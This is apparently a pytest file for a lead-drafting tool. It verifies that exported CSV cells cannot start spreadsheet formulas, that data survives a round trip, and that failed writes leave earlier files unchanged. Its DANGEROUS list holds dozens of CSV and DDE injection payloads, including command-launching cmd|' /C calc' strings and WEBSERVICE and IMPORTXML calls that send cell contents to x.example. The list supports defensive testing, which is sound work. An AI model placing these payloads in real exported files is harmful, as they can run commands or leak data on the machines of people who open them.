"""What a run writes: no cell that a spreadsheet would run, and nothing lost on the way back."""

from __future__ import annotations

import csv
import os
import re
import shutil
import subprocess
import zipfile
from pathlib import Path

import pytest
from batches import SENDER, table

from drafter.batch import Leads, read_leads
from drafter.batch.table import tables
from drafter.errors import StorageError
from drafter.export import cell
from drafter.intake.sheets import clean, header_key

DANGEROUS = (
    "=1+1", "=cmd|' /C calc'!A0", "=HYPERLINK(\"http://x.example\",\"Click\")", "=A1", "==1", "=",
    "=IMPORTXML(CONCAT(\"http://x.example\",A1),\"//a\")", "=DDE(\"cmd\",\"/C calc\",\"x\")",
    "=WEBSERVICE(\"http://x.example/\"&A1)", "=SUM(1,2)*cmd|'/C calc'!A0", "=\t1", "=\"a\"&\"b\"",
    "+1+1", "+cmd|'/C calc'!A0", "+A1", "+", "++1", "+SUM(A1:A9)", "+1-800-555-0199",
    "-1+1", "-cmd|'/C calc'!A0", "-A1", "--", "-2+3+cmd|'/C calc'!D2", "- a list", "-1-1",
    "@SUM(1+1)*cmd|'/C calc'!A0", "@ann", "@", "@SUM(A1)", "@\t=1",
    "\t=1+1", "\t", "\t@SUM(A1)", "\ttext", "\r=1+1", "\r\n=1+1", "\n=1+1", "\n+1+1", "\x0b=1+1",
    "\0=1+1", "=\x001+1", "\0", "\x1b]0;x\x07=1+1", "\ufeff=1+1", "\u200b=1+1", "\u202e=1+1",
    " =1+1", "   +A1", " \t =1+1", "\u00a0=1+1", "\u3000=1+1", " @SUM(A1)",
    "＝1+1", "＋A1", "－A1", "＠SUM(A1)", " ＝1+1",
    "'=1+1", "\"=1+1\"", "'+A1", "\";=1+1;\"", "\"\n=1+1\"",
    "x;=1+1", "x; =1+1", "x;\"=1+1", "x\t=1+1", "Dear Ola,\n=1+1", "a\n\n  @SUM(A1)",
    "x;\u200b=1+1", "x;+cmd|'/C calc'!A0", "x\n- HYPERLINK(\"http://x.example\")", "a;=1\nb;=2",
    "x;-2+3+cmd|'/C calc'!D2", "x;＝1", "x;+WEBSERVICE (\"http://x.example\")",
    "x\t-\"a;b\"&IMAGE(A1)", "x;-Sheet1!A1",
)  # fmt: skip
HARMLESS = (
    "-5", "-1,234.50", "-12.5%", "+1E5", "+49 170 1234567", "+49 (0)170 1234567",
    "+1 (800) 5550199", "0170 1234567", "1E5", "3/4", "a=b", "x+y", "007",
    "O'Neill", "'tis", "", "Zoë – “x”", "a;b|c",
    "1-800-Flowers", "thanks ;-)", "Pieter;+49 170 1234567", "My days:\n- Monday (late)\n- Friday",
    "a; b = c", "so;x@y.example", "so:\n- email(s)\n- Thank you!", "home;@ann",
    "see you ;-) (soon)", "so:\n- my CV (enclosed)", "notes:\n'@Home' is the project",
)  # fmt: skip
KEPT = (
    "می\u200cخواهم", "क्\u200dष", "👩\u200d👩\u200d👧", "Zu\u00adsammen", "\uf8ff Inc",
    "🏴\U000e0067\U000e0062\U000e0065\U000e006e\U000e0067\U000e007f",
    "\U0001fae9", "\U0001fb00", "葛\U000e0100城", "❤\ufe0f", "ภาษา\u200bไทย", "\u0600\u0661\u0662",
    "\U000f0000",
)  # fmt: skip
"""Harmless, though a reader of prompts leaves out what nobody sees."""
RUNS = re.compile(r"[\s\0]*[=+\-@＝＋－＠]|[\t\r\0]")
RUNS_INSIDE = re.compile(
    r"[\s\"\u200b]*(?:[=＝]|[@+\-＋－＠]\S.*\w ?[(|!]\$?[\w\"']|[+-] HYPERLINK)"
)
needs_office = pytest.mark.skipif(not shutil.which("soffice"), reason="needs LibreOffice (soffice)")
AMOUNT = re.compile(r"[+-][\d .,()]+%?|[+-]\d+E\d+")


def test_there_are_sixty() -> None:
    assert len(set(DANGEROUS)) >= 60


@pytest.mark.parametrize("text", DANGEROUS, ids=range(len(DANGEROUS)))
def test_no_cell_begins_a_formula(text: str) -> None:
    made = cell(text)
    assert not RUNS.match(made), made
    assert not any(RUNS_INSIDE.match(piece) for piece in re.split(r"[;\t\n]", made)[1:]), made
    assert "\0" not in made and "\r" not in made
    assert clean(made) == clean(text)


@pytest.mark.parametrize("text", HARMLESS)
def test_amounts_and_telephone_numbers_stay(text: str) -> None:
    assert cell(text) == text and clean(text) == text
    assert not RUNS.match(text) or AMOUNT.fullmatch(text)


@pytest.mark.parametrize("text", KEPT)
def test_what_joins_letters_and_what_is_new_stays(text: str) -> None:
    assert cell(text) == text


@pytest.mark.parametrize("hides", ["\xad", "\u200b", "\u200c", "\u2060", "\ufeff", "\u3164"])
def test_what_nobody_sees_hides_no_formula(hides: str) -> None:
    made = cell(f"{hides}=1+1")
    assert made.startswith("'") and clean(made) == "=1+1"


@pytest.mark.parametrize(
    "char", ["\x00", "\x0c", "\x9b", "\u202e", "\u2066", "\u200f", "\u061c", "\ud83c", "\ufdd0",
             "\uffff", "\U0010fffe", "\U000e0041"],
)  # fmt: skip
def test_what_does_harm_unseen_goes(char: str) -> None:
    assert cell(f"Ola{char} Brandt") == "Ola Brandt"


def written(folder: Path) -> tuple[Leads, Path]:
    """Every dangerous cell in three columns of leads, through drafts.csv."""
    source = folder / "leads.csv"
    cells = [*DANGEROUS, *HARMLESS, *KEPT]
    with source.open("w", encoding="utf-16", newline="") as lines:  # Where a NUL is a letter.
        rows = csv.writer(lines)
        rows.writerow(["recipient_name", "situation", "=Tag", "status", "fact_1"])
        rows.writerows(["Ola", text, text, text, text] for text in cells)
    leads = read_leads(source)
    drafts = {"status": "drafted", "verdict": "ok", "withheld": "", "subject": "=1+1",
              "body": "-A1", "channel": "sms", "kind": "@x"}  # fmt: skip
    with tables(folder / "out", leads.columns, SENDER) as put:
        for number, row in leads.rows():
            put({"lead_id": f"row-{number}", "given": leads.given(row), **drafts})
    return leads, folder / "out" / "drafts.csv"


def test_what_is_read_back_is_what_went_in(tmp_path: Path) -> None:
    leads, made = written(tmp_path)
    again = read_leads(made)
    first = [leads.told(row) for _, row in leads.rows()]
    second = [again.told(row) for _, row in again.rows()]
    ours = first[0].keys()
    assert [{name: row[name] for name in ours} for row in second] == first
    theirs = [clean(again.given(row)["given_status"]) for _, row in again.rows()]
    assert theirs == [clean(leads.given(row)["status"]) for _, row in leads.rows()]
    raw = [again.given(row)["given_status"] for _, row in again.rows()]
    assert raw[-len(KEPT) :] == list(KEPT)
    assert [clean(again.given(row)["subject"]) for _, row in again.rows()] == ["=1+1"] * len(theirs)


def test_no_cell_of_the_file_begins_a_formula(tmp_path: Path) -> None:
    _, made = written(tmp_path)
    with made.open(encoding="utf-8", newline="") as lines:
        cells = [cell for row in csv.reader(lines) for cell in row]
    assert len(cells) > 1000
    assert not [text for text in cells if RUNS.match(text) and not AMOUNT.fullmatch(text)]


def test_columns_of_the_file_never_give_way_to_ours(tmp_path: Path) -> None:
    columns = ["Status", "status", "given_status", "kind", "Kind", "lead id", "Body"]
    given = {name: f"their {name}" for name in columns}
    with tables(tmp_path / "out", columns, SENDER) as put:
        put({"lead_id": "row-1", "given": given, "status": "skipped", "reason": "x", "kind": ""})
    (row,) = table(tmp_path / "out" / "drafts.csv")
    assert {f"their {name}" for name in columns} <= set(row.values())
    assert (row["status"], row["kind"], row["lead_id"]) == ("skipped", "their kind", "row-1")
    assert len(row) == len({header_key(name) for name in row})


def left(out: Path) -> list[bytes]:
    """What the three files hold, and that nothing else lies about."""
    assert {path.name for path in out.iterdir()} == {"drafts.csv", "drafts.zip", "skipped.csv"}
    with zipfile.ZipFile(out / "drafts.zip") as letters:
        texts = [letters.read(name) for name in letters.namelist()]
    return [(out / "drafts.csv").read_bytes(), *texts, (out / "skipped.csv").read_bytes()]


@pytest.mark.parametrize("name", ["drafts.csv", "skipped.csv"])
def test_a_table_that_is_open_elsewhere_or_a_disk_that_fills_leaves_all_three_as_they_were(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, name: str
) -> None:
    out = tmp_path / "out"

    def write(tag: str) -> None:
        row = {"lead_id": "row-1", "status": "drafted", "verdict": "ok", "withheld": "",
               "channel": "sms", "subject": "", "body": tag, "given": {"name": tag}}  # fmt: skip
        with tables(out, ["name"], SENDER) as put:
            put(row)
            put(row | {"lead_id": "row-2", "status": "skipped", "reason": tag})

    write("old")
    before, replaced, synced = left(out), Path.replace, os.fsync

    def replace(aside: Path, path: Path) -> Path:
        if path.name == "drafts.csv":
            raise PermissionError(13, "open elsewhere")
        return replaced(aside, path)

    def fsync(handle: int) -> None:
        if ".skipped" in str(Path(f"/proc/self/fd/{handle}").readlink()):
            raise OSError(28, "No space left on device")
        synced(handle)

    with monkeypatch.context() as broken:
        if name == "drafts.csv":
            broken.setattr(Path, "replace", replace)
        else:
            broken.setattr(os, "fsync", fsync)
        with pytest.raises(StorageError, match=r"E24 I can't write .*drafts\.csv"):
            write("new")
    assert left(out) == before
    write("new")
    assert b"new" in left(out)[0] and b"old" not in b"".join(left(out))


def converted(made: Path, form: str, folder: Path, separator: str = ",") -> Path:
    """By LibreOffice, which takes it for UTF-8 that is split at the separator."""
    command = ["soffice", "--headless", f"-env:UserInstallation=file://{folder}/office",
               f"--infilter=Text - txt - csv (StarCalc):{ord(separator)},34,76,1",
               "--convert-to", form,
               "--outdir", str(folder), str(made)]  # fmt: skip
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return folder / f"drafts.{form.partition(':')[0]}"


@needs_office
@pytest.mark.parametrize("separator", [",", ";", "\t"])
def test_libreoffice_opens_it_without_a_formula(tmp_path: Path, separator: str) -> None:
    """Also where it splits tables elsewhere, as it does in countries with a decimal comma."""
    _, made = written(tmp_path)
    sheet = converted(made, "fods", tmp_path, separator).read_text(encoding="utf-8")
    assert "table:table-cell" in sheet and "table:formula" not in sheet


@needs_office
def test_what_libreoffice_saves_is_read_back(tmp_path: Path) -> None:
    """It rewrites what it takes for an amount or a date, and nothing else."""
    leads, made = written(tmp_path)
    saved = read_leads(converted(made, "csv:Text - txt - csv (StarCalc):44,34,76,1", tmp_path))
    pairs = zip(leads.rows(), saved.rows(), strict=True)
    changed = {
        before[name]
        for (_, row), (_, back) in pairs
        for before, after in [(leads.told(row), saved.told(back))]
        for name in before
        if before[name] != after[name]
    }
    assert changed <= {"-1,234.50", "-12.5%", "+1E5", "1E5", "3/4", "007"}
